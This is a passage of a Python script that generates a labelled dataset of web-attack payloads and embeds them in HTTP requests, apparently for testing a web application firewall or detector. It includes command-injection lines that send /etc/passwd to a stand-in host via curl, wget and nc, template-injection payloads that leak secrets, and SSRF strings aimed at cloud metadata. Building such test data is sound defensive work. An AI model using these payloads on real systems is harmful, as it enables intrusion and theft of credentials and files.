;ls$IFS-la
;IFS=_;cmd=cat_/etc/passwd;$cmd
;ps${IFS}aux
& set /a 1+1 &
| ping -n 3 127.0.0.1
;base32 /etc/passwd
;xxd /etc/passwd
$(</etc/passwd)
;curl -d @/etc/passwd evil.example
;wget --post-file=/etc/passwd evil.example
;nc evil.example 4444 < /etc/passwd
;echo test > /var/www/html/x.txt
;touch /tmp/pwned
|| sleep 5 ||
;s\l\e\e\p 5
;/bin/s?? -c id
;awk 'BEGIN{system("id")}'
;find / -name passwd -exec cat {} \;
;php -r 'system("id");'
;ruby -e 'exec "id"'
;node -e 'require("child_process").exec("id")'
;lua -e 'os.execute("id")'""")
SSTI += lines(r"""{{ dump(app) }}
{{ app.request.server.get('DOCUMENT_ROOT') }}
{{ '/etc/passwd'|file_excerpt(1,30) }}
{{ include('/etc/passwd') }}
{{ source('/etc/passwd') }}
{{ lipsum|attr('__globals__') }}
{{ url_for.__globals__ }}
{{ ().__class__ }}
{{ x|attr(request.args.a) }}
{% with a = request["application"]["\x5f\x5fglobals\x5f\x5f"] %}{{ a }}{% endwith %}
${.data_model}
<#list .data_model?keys as k>${k}</#list>
${object?api.getClass()}
$request.getSession()
{{lookup (lookup this 'constructor') 'name'}}
{{ .Request.Header }}
${"a".join(dir())}
{$smarty.template_object->smarty}
{self::getStreamVariable("file:///etc/passwd")}
{{ handler.settings }}
{{ messages.storages.0.signer.key }}
{% load log %}{% get_admin_log 10 as log %}{% for e in log %}{{ e.user.password }}{% endfor %}""")
SSRF += lines(r"""http://[0000:0000:0000:0000:0000:0000:0000:0001]/
http://[::1%25eth0]/
http://127.0.0.1:80\@evil.example/
http://evil.example\@127.0.0.1/
http://127.0.0.1%2523@evil.example/
http://0x7f.0.0.1/
http://2130706433:80/
http://localhost.localdomain/
http://localhost./
http://LOCALHOST/admin
http://127.0.0.1./
https://metadata.google.internal./computeMetadata/v1/
http://kubernetes.default.svc/api/v1/secrets
http://10.0.0.1/admin
http://192.168.1.1/
http://172.16.0.1:8080/""")
ESI += lines(r"""<esi:include src=http://evil.example/ alt=http://evil.example/ onerror=continue/>
<ESI:INCLUDE SRC="http://evil.example/"/>
<esi:include src="/etc/passwd"/>
<!--esi $(HTTP_COOKIE) -->
<esi:remove>x</esi:remove><esi:include src="http://evil.example/"/>""")
PROTO += lines(r"""{"\u005f\u005fproto\u005f\u005f":{"isAdmin":true}}
{"__proto__":{"polluted":true}}
[{"__proto__":{"x":1}}]
{"a":1,"__proto__":{"b":2}}
{"prototype":{"constructor":1},"constructor":{"prototype":{"admin":1}}}""")
PROTO_NAMES += ["__proto__%5Bpolluted%5D", "[__proto__][x]", "a.__proto__.b", "constructor%5Bprototype%5D%5Bx%5D"]
DESER += lines(r"""Tzo4OiJzdGRDbGFzcyI6MTp7czo0OiJmaWxlIjtzOjExOiIvZXRjL3Bhc3N3ZCI7fQ==
O:8:"stdClass":1:{s:4:"file";O:8:"stdClass":0:{}}
a:1:{s:1:"x";O:12:"SplFileObject":1:{s:8:"filename";s:11:"/etc/passwd";}}""")

FAMILIES = [("xxe", XXE), ("ssrf", SSRF), ("crlf", CRLF + CRLF_RAW), ("deserialization", DESER),
            ("prototype-pollution", PROTO), ("esi", ESI), ("xss", XSS), ("sqli", SQLI), ("cmdi", CMDI),
            ("ssti", SSTI), ("ldap-injection", LDAP), ("xpath", XPATH), ("java", LOG4J)]

UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0 Safari/537.36"

def req(placement, kind, method, path, query="", headers=None, body="", tag=""):
    h = {"Host": "shop.example", "User-Agent": UA, "Accept": "*/*"}
    if tag:
        # names the payload in the lab's list of misses (a benign argument)
        query = (query + "&" if query else "") + "case=" + tag
    h.update(headers or {})
    return {"source": "adversarial-s12/" + placement, "label": "attack", "attack_type": kind,
            "method": method, "path": path, "query": query, "headers": h, "body": body}

def enc(v):
    return up.quote(v, safe="")

def header_safe(v):
    return all(0x20 <= ord(c) < 0x7f for c in v)

UA_SINKS = {"sqli", "xss", "cmdi", "java", "ssti", "esi"}

BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"

def placements(kind, v, tag):
    yield req("cookie", kind, "GET", "/account", headers={"Cookie": "theme=dark; pref=" + enc(v) + "; lang=en"}, tag=tag)
    if header_safe(v) and kind in UA_SINKS:
        # the header an application most often stores, logs or echoes (and a WAF reads):
        # only for the families whose sink reads it (SQL insert of a visit, a shell or
        # Log4j logger, a page or template echoing it, an ESI-processing cache)
        yield req("user-agent", kind, "GET", "/api/items", headers={"User-Agent": v}, tag=tag)
    yield req("multipart", kind, "POST", "/upload", headers={"Content-Type": "multipart/form-data; boundary=" + BOUNDARY},
              body="--%s\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n%s\r\n--%s--\r\n" % (BOUNDARY, v, BOUNDARY), tag=tag)
    yield req("nested-json", kind, "POST", "/api/v2/orders", headers={"Content-Type": "application/json"},
              body=json.dumps({"order": {"lines": [{"sku": "A-1", "note": v}], "meta": {"channel": "web"}}}), tag=tag)
    if kind == "xxe":
        yield req("xml-body", kind, "POST", "/api/import", headers={"Content-Type": "application/xml"}, body=v, tag=tag)
        yield req("soap-body", kind, "POST", "/services/UserService",
                  headers={"Content-Type": "text/xml; charset=utf-8", "SOAPAction": "\"getUser\""}, body=v, tag=tag)

def proto_requests():
    for n in PROTO_NAMES:
        yield req("query-name", "prototype-pollution", "GET", "/api/settings", enc(n).replace("%5B", "[").replace("%5D", "]") + "=true")
        yield req("form-name", "prototype-pollution", "POST", "/account/settings",
                  headers={"Content-Type": "application/x-www-form-urlencoded"}, body=enc(n) + "=true&theme=dark")
    for body in PROTO:
        yield req("json-body", "prototype-pollution", "POST", "/api/users/42", headers={"Content-Type": "application/json"}, body=body)

def main(values_out, requests_out):
    with open(values_out, "w") as f:
        for kind, items in FAMILIES:
            for v in items:
                f.write(json.dumps({"source": "adversarial-s12", "label": "attack", "attack_type": kind, "value": v}) + "\n")
    with open(requests_out, "w") as f:
        for kind, items in FAMILIES:
            for n, v in enumerate(items):
                for r in placements(kind, v, "%s-%d" % (kind, n)):
                    f.write(json.dumps(r) + "\n")
        for r in proto_requests():
            f.write(json.dumps(r) + "\n")

if __name__ == "__main__":
    here = os.path.dirname(os.path.abspath(__file__))
    main(os.path.join(here, "adversarial-s12.jsonl"), os.path.join(here, "adversarial-s12-requests.jsonl"))
